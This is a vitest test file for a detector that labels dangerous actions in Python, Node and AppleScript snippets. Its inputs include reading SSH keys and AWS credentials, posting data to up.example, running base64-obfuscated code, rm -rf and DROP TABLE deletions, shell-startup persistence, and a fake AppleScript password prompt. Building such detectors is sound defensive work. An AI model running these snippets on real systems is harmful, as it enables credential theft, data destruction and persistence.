import { expect, test } from 'vitest';
import type { Interpreter } from '../../../src/contract/scripts.ts';
import { dangersIn } from './noticing.ts';

test.each<[Interpreter, string, string]>([
  ['python', 'import os\nos.remove("a")', 'deletes: deletes a'],
  ['python', 'import shutil as s\np = "/srv/a"\ns.rmtree(p)', 'deletes: deletes /srv/a'],
  ['python', 'from os import remove as r\nr("a")', 'deletes: deletes a'],
  ['python', 'from pathlib import Path\nPath("a").unlink()', 'deletes: deletes a'],
  ['python', 'import os\nos.system("rm a")', 'deletes: deletes a'],
  ['python', 'import subprocess\nsubprocess.run(["rm", "-rf", "my file"])', 'deletes: deletes my file'],
  ['python', 'open("a", "w").write("x")', 'overwrites: overwrites a'],
  ['python', 'open("/home/ann/.ssh/id_rsa").read()', 'credentials: reads /home/ann/.ssh/id_rsa (keys and credentials)'],
  ['python', 'p = f"{home}/.aws/credentials"', 'credentials: uses {home}/.aws/credentials (keys and credentials)'],
  ['python', 'import requests\nrequests.post("https://up.example/x", data=d)', 'sends: sends data to up.example'],
  ['python', 'exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5yZW1vdmUoImEiKQ=="))', 'deletes: deletes a'],
  [
    'python',
    'open("/home/ann/.bashrc", "a").write(x)',
    'persists: adds to /home/ann/.bashrc, which runs each time a shell or a session starts',
  ],
  ['python', 'cursor.execute("DROP TABLE users")', 'deletes: deletes from the database: DROP TABLE users'],
  ['node', 'require("fs").rmSync("a", { recursive: true })', 'deletes: deletes a'],
  ['node', 'const { unlinkSync: u } = require("node:fs"); u("a")', 'deletes: deletes a'],
  ['node', 'import { execSync } from "node:child_process"\nexecSync(`rm a`)', 'deletes: deletes a'],
  ['node', 'fetch("https://up.example", { method: "POST", body })', 'sends: sends data to up.example'],
  [
    'node',
    'fs.appendFileSync("/home/ann/.zshrc", x)',
    'persists: adds to /home/ann/.zshrc, which runs each time a shell or a session starts',
  ],
  ['javascript', 'app.doShellScript("rm a")', 'deletes: deletes a'],
  ['applescript', 'tell application "Finder" to delete file "a"', 'deletes: deletes "Finder"'],
  ['applescript', 'do shell script "rm -rf ~/a" with administrator privileges', 'deletes: deletes ~/a'],
  [
    'applescript',
    'display dialog "Password" default answer "" with hidden answer',
    'credentials: asks you for a password "Password"',
  ],
  [
    'applescript',
    'tell application "System Events" to make login item at end',
    'persists: makes a program start at each login "System Events"',
  ],
])('%s: %s', (interpreter, script, expected) => expect(dangersIn(script, { interpreter })).toContain(expected));

test.each<[Interpreter, string]>([
  ['python', 'print("hello")  # os.remove("a")'],
  ['python', 'x = [1, 2]\nx.remove(1)'],
  ['node', 'console.log("hi") // fs.rmSync("a")'],
  ['node', '/* fs.rmSync("a") */ new Set().delete("a")'],
  ['applescript', '-- delete file "a"'],
])('%s: nothing is noted in %s', (interpreter, script) => expect(dangersIn(script, { interpreter })).toEqual([]));
